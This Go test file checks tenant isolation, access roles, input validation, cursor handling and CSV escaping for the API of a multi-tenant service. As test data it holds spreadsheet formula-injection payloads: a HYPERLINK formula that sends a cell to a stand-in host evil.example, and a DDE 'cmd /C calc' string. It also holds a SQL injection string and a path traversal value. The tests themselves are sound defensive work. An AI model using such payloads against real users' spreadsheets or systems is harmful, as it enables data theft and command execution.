package userapi

import (
	"encoding/csv"

	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/cordon-dev/cordon/internal/audit"
	"github.com/jackc/pgx/v5"
)

// TestRawSelectSeesOnlyCallersOrg is the row-level security proof: with
// both orgs' rows in the same tables, a SELECT with no WHERE clause in a
// transaction that set org A returns only A's rows, as cordon_service and
// as the tables' owner (FORCE ROW LEVEL SECURITY), and nothing at all when
// no org is set.
func TestRawSelectSeesOnlyCallersOrg(t *testing.T) {
	e := newEnv(t)
	e.seed(t, "acme", "block_follower", 5)
	e.seed(t, "globex", "secret_job", 9)
	ctx := ctxT(t)
	conn, err := pgx.Connect(ctx, e.url)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(ctx)
	tables := []string{"audit_events", "usage_reports", "runs", "jobs", "orgs", "audit_chain_heads"}
	for _, role := range []string{"cordon_service", "cordon_owner"} {
		for _, org := range []string{"acme", "globex", ""} {
			for _, table := range tables {
				t.Run(role+"/"+org+"/"+table, func(t *testing.T) {
					var orgs []string
					err := pgx.BeginFunc(ctx, conn, func(tx pgx.Tx) error {
						if _, err := tx.Exec(ctx, "SET LOCAL ROLE "+role); err != nil {
							return err
						}
						if org != "" {
							if _, err := tx.Exec(ctx, "SELECT set_config('cordon.org_id', $1, true)", org); err != nil {
								return err
							}
						}
						rows, err := tx.Query(ctx, "SELECT * FROM "+table)
						if err != nil {
							return err
						}
						defer rows.Close()
						for rows.Next() {
							m, err := rows.Values()
							if err != nil {
								return err
							}
							for i, f := range rows.FieldDescriptions() {
								if f.Name == "org_id" {
									orgs = append(orgs, m[i].(string))
								}
							}
						}
						return rows.Err()
					})
					if err != nil {
						t.Fatal(err)
					}
					if org == "" && len(orgs) != 0 {
						t.Fatalf("no org set: got %d rows, want 0", len(orgs))
					}
					if org != "" && len(orgs) == 0 {
						t.Fatalf("got no rows, want %s's rows", org)
					}
					for _, o := range orgs {
						if o != org {
							t.Fatalf("got a row of org %q, want only %q", o, org)
						}
					}
				})
			}
		}
	}
	// The counts prove the filter is the org, not something narrower.
	var n int
	err = pgx.BeginFunc(ctx, conn, func(tx pgx.Tx) error {
		tx.Exec(ctx, "SET LOCAL ROLE cordon_service")
		tx.Exec(ctx, "SELECT set_config('cordon.org_id', 'globex', true)")
		return tx.QueryRow(ctx, "SELECT count(*) FROM audit_events").Scan(&n)
	})
	if err != nil || n != 12 {
		t.Errorf("globex's audit events: got %d (%v), want 12", n, err)
	}
}

// TestAPINeverShowsAnotherOrg: an admin of acme, crafting every filter
// towards globex's data, gets none of it.
func TestAPINeverShowsAnotherOrg(t *testing.T) {
	e := newEnv(t)
	e.seed(t, "acme", "block_follower", 3)
	gl := e.seed(t, "globex", "secret_job", 3)
	acme := e.token(t, "alice", "acme", "admin")
	globex := e.token(t, "mallory", "globex", "admin")

	paths := []string{
		"/api/v1/audit-events",
		"/api/v1/audit-events?job=secret_job",
		"/api/v1/audit-events?actor=" + url.QueryEscape(gl[0].Actor.ID),
		"/api/v1/audit-events?event_type=EGRESS_DENIED",
		"/api/v1/audit-events?format=csv",
		"/api/v1/usage",
		"/api/v1/usage?job=secret_job",
		"/api/v1/egress-denials",
		"/api/v1/egress-denials?job=secret_job",
		"/api/v1/runs",
		"/api/v1/runs?job=secret_job",
		"/api/v1/allowlists",
		"/api/v1/allowlists?job=secret_job",
	}
	for _, p := range paths {
		resp, body := e.get(t, acme, p)
		if resp.StatusCode != 200 {
			t.Errorf("GET %s: got %d %s, want 200", p, resp.StatusCode, body)
		}
		for _, leak := range []string{"globex", "secret_job", gl[0].EventID} {
			if contains(body, leak) {
				t.Errorf("GET %s as acme's admin: the answer holds %q", p, leak)
			}
		}
	}
	for _, tc := range []struct{ name, path string }{
		{"tenant parameter", "/api/v1/audit-events?org_id=globex"},
		{"tenant_id parameter", "/api/v1/usage?tenant_id=globex"},
		{"org parameter", "/api/v1/egress-denials?org=globex"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if resp, body := e.get(t, acme, tc.path); resp.StatusCode != 400 {
				t.Errorf("got %d %s, want 400", resp.StatusCode, body)
			}
		})
	}
	if resp, _ := e.get(t, acme, "/api/v1/runs/run-globex"); resp.StatusCode != 404 {
		t.Errorf("globex's run as acme: got %d, want 404", resp.StatusCode)
	}
	if resp, body := e.get(t, globex, "/api/v1/runs/run-globex"); resp.StatusCode != 200 || !contains(body, "secret_job") {
		t.Errorf("globex's run as globex: got %d %s, want 200", resp.StatusCode, body)
	}
	// A cursor globex was given is refused for acme, even with equal filters.
	var page AuditPage
	e.getJSON(t, globex, "/api/v1/audit-events?limit=1", &page)
	if page.NextCursor == "" {
		t.Fatal("globex's first page has no next_cursor")
	}
	if resp, body := e.get(t, acme, "/api/v1/audit-events?limit=1&cursor="+page.NextCursor); resp.StatusCode != 400 {
		t.Errorf("globex's cursor used by acme: got %d %s, want 400", resp.StatusCode, body)
	}
}

func TestRBAC(t *testing.T) {
	e := newEnv(t)
	tests := []struct {
		name, role, path string
		want             int
	}{
		{"reader audit events", "reader", "/api/v1/audit-events", 403},
		{"writer audit events", "writer", "/api/v1/audit-events", 403},
		{"admin audit events", "admin", "/api/v1/audit-events", 200},
		{"reader usage", "reader", "/api/v1/usage", 200},
		{"reader denials", "reader", "/api/v1/egress-denials", 200},
		{"reader runs", "reader", "/api/v1/runs", 200},
		{"reader allowlists", "reader", "/api/v1/allowlists", 200},
		{"no token", "", "/api/v1/usage", 401},
		{"openapi needs no token", "", "/api/v1/openapi.json", 200},
		{"unknown endpoint", "admin", "/api/v1/secrets", 404},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tok := ""
			if tc.role != "" {
				tok = e.token(t, "u-"+tc.role, "acme", tc.role)
			}
			if resp, body := e.get(t, tok, tc.path); resp.StatusCode != tc.want {
				t.Errorf("got %d %s, want %d", resp.StatusCode, body, tc.want)
			}
		})
	}
}

func TestParameterValidation(t *testing.T) {
	e := newEnv(t)
	e.seed(t, "acme", "block_follower", 4)
	tok := e.token(t, "alice", "acme", "admin")
	var page AuditPage
	e.getJSON(t, tok, "/api/v1/audit-events?limit=1&result=SUCCESS", &page)
	tampered := []byte(page.NextCursor)
	tampered[3] ^= 1
	tests := []struct{ name, path, param string }{
		{"unknown", "/api/v1/audit-events?sort=ts", "sort"},
		{"repeated", "/api/v1/audit-events?job=a&job=b", "job"},
		{"bad from", "/api/v1/audit-events?from=yesterday", "from"},
		{"bad to", "/api/v1/usage?to=1700000000", "to"},
		{"from after to", "/api/v1/usage?from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "from"},
		{"range too long", "/api/v1/usage?from=2020-01-01T00:00:00Z&to=2026-01-01T00:00:00Z", "from"},
		{"limit zero", "/api/v1/audit-events?limit=0", "limit"},
		{"limit too big", "/api/v1/audit-events?limit=1001", "limit"},
		{"limit not a number", "/api/v1/runs?limit=ten", "limit"},
		{"bad result", "/api/v1/audit-events?result=OK", "result"},
		{"bad event type", "/api/v1/audit-events?event_type=" + url.QueryEscape("x' OR 1=1--"), "event_type"},
		{"bad job", "/api/v1/egress-denials?job=" + url.QueryEscape("../etc"), "job"},
		{"bad format", "/api/v1/usage?format=xml", "format"},
		{"garbage cursor", "/api/v1/audit-events?cursor=abc", "cursor"},
		{"tampered cursor", "/api/v1/audit-events?limit=1&result=SUCCESS&cursor=" + string(tampered), "cursor"},
		{"cursor for other filters", "/api/v1/audit-events?limit=1&result=DENIED&cursor=" + page.NextCursor, "cursor"},
		{"cursor for other endpoint", "/api/v1/runs?cursor=" + page.NextCursor, "cursor"},
		{"bucket too small", "/api/v1/egress-denials?bucket=30s", "bucket"},
		{"too many buckets", "/api/v1/egress-denials?bucket=1m&from=2026-01-01T00:00:00Z&to=2026-01-03T00:00:00Z", "bucket"},
		{"top too big", "/api/v1/egress-denials?top=1000", "top"},
		{"parameter on run", "/api/v1/runs/run-acme?verbose=1", "verbose"},
		{"malformed query", "/api/v1/usage?from=%zz", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			resp, body := e.get(t, tok, tc.path)
			if resp.StatusCode != 400 {
				t.Fatalf("got %d %s, want 400", resp.StatusCode, body)
			}
			if !contains(body, `"parameter":"`+tc.param+`"`) && tc.param != "" {
				t.Errorf("got %s, want it to name the parameter %q", body, tc.param)
			}
		})
	}
	if resp, body := e.get(t, tok, "/api/v1/audit-events?limit=1&result=SUCCESS&cursor="+page.NextCursor); resp.StatusCode != 200 {
		t.Errorf("the untampered cursor: got %d %s, want 200", resp.StatusCode, body)
	}
}

// TestPaginationStableUnderInserts pages through the audit log while new
// events arrive between page fetches (newer ones, and late ones inside the
// range already paged and yet to page): every event stored before the first
// page is seen exactly once and no event is seen twice.
func TestPaginationStableUnderInserts(t *testing.T) {
	e := newEnv(t)
	orig := e.seed(t, "acme", "block_follower", 30)
	tok := e.token(t, "alice", "acme", "admin")
	for _, format := range []string{"json", "csv"} {
		t.Run(format, func(t *testing.T) {
			seen := map[string]int{}
			path := "/api/v1/audit-events?limit=7&format=" + format
			cursor := ""
			for page := 0; ; page++ {
				if page > 20 {
					t.Fatal("more than 20 pages")
				}
				p := path
				if cursor != "" {
					p += "&cursor=" + cursor
				}
				ids, next := e.fetchAuditPage(t, tok, p, format)
				for _, id := range ids {
					seen[id]++
				}
				// Events arrive while the client pages: one newer than
				// everything, one at the exact timestamp of an event
				// already listed, one further back in the range.
				e.append(t, "acme", []audit.Event{
					event("acme", "EGRESS_ALLOWED", "block_follower", "late:443", e.now.Add(30*time.Second)),
					event("acme", "EGRESS_ALLOWED", "block_follower", "late:443", orig[min(page*7, len(orig)-1)].Timestamp),
					event("acme", "EGRESS_ALLOWED", "block_follower", "late:443", e.now.Add(-5*time.Hour-time.Duration(page)*time.Minute)),
				}, nil)
				if next == "" {
					break
				}
				cursor = next
			}
			for _, ev := range orig {
				if seen[ev.EventID] != 1 {
					t.Errorf("event %s at %s: seen %d times, want 1", ev.EventID, ev.Timestamp, seen[ev.EventID])
				}
			}
			for id, n := range seen {
				if n > 1 {
					t.Errorf("event %s: seen %d times, want at most 1", id, n)
				}
			}
		})
	}
}

func (e *env) fetchAuditPage(t *testing.T, tok, path, format string) (ids []string, next string) {
	t.Helper()
	if format == "json" {
		var page AuditPage
		e.getJSON(t, tok, path, &page)
		for _, it := range page.Items {
			ids = append(ids, it.EventID)
		}
		return ids, page.NextCursor
	}
	resp, body := e.get(t, tok, path)
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("GET %s: got %d %s %s, want 200 text/csv", path, resp.StatusCode, resp.Header.Get("Content-Type"), body)
	}
	recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs[1:] {
		ids = append(ids, r[2])
	}
	return ids, resp.Header.Get("Cordon-Next-Cursor")
}

func TestCSVExportEscapes(t *testing.T) {
	e := newEnv(t)
	hostile := []audit.Event{
		event("acme", EventEgressDenied, "block_follower", `=HYPERLINK("http://evil.example/?"&A1,"x"):443`, e.now.Add(-time.Minute)),
		event("acme", EventEgressDenied, "block_follower", "+cmd|' /C calc'!A0:443", e.now.Add(-2*time.Minute)),
		event("acme", EventEgressDenied, "block_follower", "@SUM(1+1)\n,\"quoted\":443", e.now.Add(-3*time.Minute)),
		event("acme", EventEgressDenied, "block_follower", "-2+3:443", e.now.Add(-4*time.Minute)),
	}
	e.append(t, "acme", hostile, nil)
	tok := e.token(t, "alice", "acme", "admin")
	for _, tc := range []struct {
		name, path string
		hdr        []string
		col        int
	}{
		{"audit format=csv", "/api/v1/audit-events?format=csv", nil, 8},
		{"audit Accept", "/api/v1/audit-events", []string{"Accept", "text/html, text/csv;q=0.9"}, 8},
		{"denials", "/api/v1/egress-denials?format=csv", nil, 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, body := e.get(t, tok, tc.path, tc.hdr...)
			if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
				t.Fatalf("got %d %q, want 200 text/csv", resp.StatusCode, resp.Header.Get("Content-Type"))
			}
			recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
			if err != nil {
				t.Fatalf("the export is not valid CSV: %v", err)
			}
			if len(recs) != len(hostile)+1 {
				t.Fatalf("got %d records, want %d", len(recs), len(hostile)+1)
			}
			got := map[string]bool{}
			for _, r := range recs[1:] {
				got[r[tc.col]] = true
			}
			for _, h := range hostile {
				if !got["'"+h.Resource.ID] {
					t.Errorf("cell %q: not found prefixed with a quote in %v", h.Resource.ID, got)
				}
			}
		})
	}
}

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""}, {"api.example.com:443", "api.example.com:443"}, {"=1+1", "'=1+1"}, {"+1", "'+1"},
		{"-1", "'-1"}, {"@x", "'@x"}, {"\tx", "'\tx"}, {"\rx", "'\rx"}, {"a=b", "a=b"},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q): got %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestDenialsAndUsage(t *testing.T) {
	e := newEnv(t)
	e.seed(t, "acme", "block_follower", 2)
	tok := e.token(t, "rita", "acme", "reader")
	var d Denials
	e.getJSON(t, tok, "/api/v1/egress-denials", &d)
	if len(d.Buckets) != DefaultBuckets || d.BucketSeconds != 3600 {
		t.Errorf("buckets: got %d of %ds, want %d of 3600s", len(d.Buckets), d.BucketSeconds, DefaultBuckets)
	}
	if d.Total != 3 || len(d.ByJob) != 1 || d.ByJob[0] != (JobDenials{"block_follower", 3}) {
		t.Errorf("total %d, by job %+v: want 3, [{block_follower 3}]", d.Total, d.ByJob)
	}
	if len(d.Top) != 2 || d.Top[0].Destination != "evil-acme.example:443" || d.Top[0].Count != 2 {
		t.Errorf("top destinations: got %+v, want evil-acme.example:443 x2 first", d.Top)
	}
	e.getJSON(t, tok, "/api/v1/egress-denials?bucket=15m&top=1", &d)
	if len(d.Buckets) != 24*4 || len(d.Top) != 1 {
		t.Errorf("bucket=15m&top=1: got %d buckets and %d top, want 96 and 1", len(d.Buckets), len(d.Top))
	}
	var u Usage
	e.getJSON(t, tok, "/api/v1/usage", &u)
	want := JobUsage{Job: "block_follower", Runs: 1, CPUSeconds: 35, WallSeconds: 3600, MaxRSSBytes: 4096,
		EgressBytesOut: 1000, EgressBytesIn: 2000, Denials: 3, Redactions: 2, OutputBytes: 10}
	if len(u.Jobs) != 1 || u.Jobs[0] != want {
		t.Errorf("usage per job: got %+v, want [%+v] (the final report, counted once)", u.Jobs, want)
	}
	want.Job = ""
	if u.Org != want {
		t.Errorf("usage of the org: got %+v, want %+v", u.Org, want)
	}
	var al Allowlists
	e.getJSON(t, tok, "/api/v1/allowlists", &al)
	if len(al.Jobs) != 1 || al.Jobs[0].Job != "block_follower" || len(al.Jobs[0].Rules) != 2 || al.Jobs[0].Rules[1].CIDR != "10.1.0.0/16" {
		t.Errorf("allowlists: got %+v", al)
	}
	var runs RunPage
	e.getJSON(t, tok, "/api/v1/runs", &runs)
	if len(runs.Items) != 1 || runs.Items[0].RunID != "run-acme" || !runs.Items[0].Final || runs.Items[0].ExitCode == nil {
		t.Errorf("runs: got %+v", runs)
	}

}
